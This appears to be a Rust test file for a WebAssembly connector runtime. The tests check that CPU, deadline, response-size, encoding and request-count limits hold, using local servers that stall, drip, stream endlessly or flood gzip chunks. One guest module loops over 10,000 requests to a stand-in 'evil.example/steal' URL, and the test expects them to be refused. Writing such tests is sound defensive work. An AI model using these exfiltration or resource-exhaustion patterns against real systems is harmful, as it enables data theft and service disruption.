//! A connector and a service that takes its time.

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::Arc;
use std::time::{Duration, Instant};

use serde_json::json;
use switchboard_runtime::{CallOptions, Egress, Runtime, RuntimeConfig};

use super::component::{component, component_of, manifest};
use super::embedding::to_port;
use super::program::{call, context, save};

/// A service that answers every request by `answer`, on a port of its own.
fn service(answer: impl Fn(&mut TcpStream) + Send + Sync + 'static) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let answer = Arc::new(answer);
    std::thread::spawn(move || {
        for mut stream in listener.incoming().map_while(Result::ok) {
            let answer = Arc::clone(&answer);
            std::thread::spawn(move || {
                while request(&mut stream) {
                    answer(&mut stream);
                }
            });
        }
    });
    port
}

/// Reads a request without a body.
fn request(stream: &mut TcpStream) -> bool {
    let (mut seen, mut byte) = (Vec::new(), [0]);
    while !seen.ends_with(b"\r\n\r\n") {
        match stream.read(&mut byte) {
            Ok(1) => seen.push(byte[0]),
            _ => return false,
        }
    }
    true
}

fn ok(stream: &mut TcpStream) {
    let _ = stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\n{}");
}

/// Sends `count` requests, and computes `rounds` rounds after each.
fn asks(count: u32, rounds: u32) -> String {
    format!(
        r#"(data (i32.const 50000) "/users/me")
        (func $invoke (result i32)
          (local $left i32) (local $rounds i32)
          (local.set $left (i32.const {count}))
          (loop $again
            (global.set $free (i32.const 65536))
            (call $send (i32.const 0) (i32.const 0) (i32.const 50000) (i32.const 9) (i32.const 0) (i32.const 0)
              (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 32768))
            (local.set $rounds (i32.const {rounds}))
            (loop $compute
              (local.set $rounds (i32.sub (local.get $rounds) (i32.const 1)))
              (br_if $compute (i32.gt_s (local.get $rounds) (i32.const 0))))
            (local.set $left (i32.sub (local.get $left) (i32.const 1)))
            (br_if $again (i32.gt_s (local.get $left) (i32.const 0))))
          (call $done))"#
    )
}

/// A long list of slow requests costs a connector nothing while it waits: 700 of 20 ms, by the program.
#[test]
fn waiting_for_the_service_costs_no_processor_time() {
    let context = context();
    let slow = json!({"kind": "latency", "millis": 20, "count": 0, "path": "/users/me"});
    assert!(context.ask("POST", "/_emulator/faults", &slow).0 < 300);
    let file = save(&context, "asks", &component(&asks(700, 0)));
    let began = Instant::now();
    let seen = call(&context, &file, &[]);
    assert_eq!(seen.code(), "ok", "{}", seen.done.err);
    assert!(began.elapsed() > Duration::from_secs(14), "{:?}", began.elapsed());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn waits_between_do_not_hide_computing() {
    let port = service(|stream| {
        std::thread::sleep(Duration::from_millis(20));
        ok(stream);
    });
    let config = RuntimeConfig { cpu: Duration::from_millis(300), ..RuntimeConfig::default() };
    let runtime = Runtime::new(config, Egress::new().unwrap()).unwrap();
    let options = CallOptions { deadline: Duration::from_secs(60), ..CallOptions::default() };
    let call = async |attack: &str| {
        let connector = runtime.load_wasm(&component(attack)).await.unwrap();
        connector.call("zoom.x.go", json!({}), to_port(port), &options).await
    };
    assert_eq!(call(&asks(100, 0)).await.unwrap(), json!({}));
    // some milliseconds each
    let error = call(&asks(1_000, 20_000_000)).await.unwrap_err();
    assert_eq!(error.code(), "guest.cpu", "{error}");
}

/// H-40 to H-44: whatever the service does, the call ends in time and its memory is bounded.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn answers_without_an_end_are_cut_off() {
    let silent = service(|_| std::thread::sleep(Duration::from_secs(60)));
    let drip = service(|stream| {
        let _ = stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 1000\r\n\r\n");
        while stream.write_all(b"x").is_ok() {
            std::thread::sleep(Duration::from_millis(100));
        }
    });
    let endless = service(|stream| {
        let _ = stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 10737418240\r\n\r\n");
        while stream.write_all(&[b'x'; 65_536]).is_ok() {}
    });
    let packed = service(|stream| {
        let head = "HTTP/1.1 200 OK\r\ncontent-encoding: gzip\r\ntransfer-encoding: chunked\r\n\r\n";
        let _ = stream.write_all(head.as_bytes());
        while stream.write_all(b"4\r\n\x1f\x8b\x08\x00\r\n").is_ok() {}
    });
    let runtime = Runtime::new(RuntimeConfig::default(), Egress::new().unwrap()).unwrap();
    let options = CallOptions { deadline: Duration::from_secs(1), ..CallOptions::default() };
    let asks = "(data (i32.const 50000) \"/x\") (func $invoke (result i32) (call $send (i32.const 1) (i32.const 0)
        (i32.const 50000) (i32.const 2) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0)
        (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 32768)) (call $refused))";
    let mut writes = manifest();
    writes["activities"][0]["effect"] = "write".into();
    let connector = runtime.load_wasm(&component_of(&writes, asks)).await.unwrap();
    for (port, code) in
        [(silent, "timeout"), (drip, "timeout"), (endless, "response.too-large"), (packed, "response.encoding")]
    {
        let began = Instant::now();
        let error = connector.call("zoom.x.go", json!({}), to_port(port), &options).await.unwrap_err();
        assert_eq!(error.code(), code, "{error}");
        assert!(began.elapsed() < Duration::from_secs(4), "{:?}", began.elapsed());
    }
}

/// H-39: more requests than a call may send, none of which the policy allows.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn requests_of_a_call_are_counted() {
    let runtime = Runtime::new(RuntimeConfig::default(), Egress::new().unwrap()).unwrap();
    let mut often = manifest();
    often["rates"]["light"]["any"]["per_second"] = 1_000_000.into();
    let asks = "(data (i32.const 50000) \"https://evil.example/steal\") (func $invoke (result i32)
        (local $left i32)
        (local.set $left (i32.const 10001))
        (loop $again
          (global.set $free (i32.const 65536))
          (drop (call $get (i32.const 50000) (i32.const 26) (i32.const 0)))
          (local.set $left (i32.sub (local.get $left) (i32.const 1)))
          (br_if $again (local.get $left)))
        (call $refused))";
    let connector = runtime.load_wasm(&component_of(&often, asks)).await.unwrap();
    let error = connector.call("zoom.x.go", json!({}), to_port(9), &CallOptions::default()).await.unwrap_err();
    assert_eq!(error.code(), "refused.requests", "{error}");
}
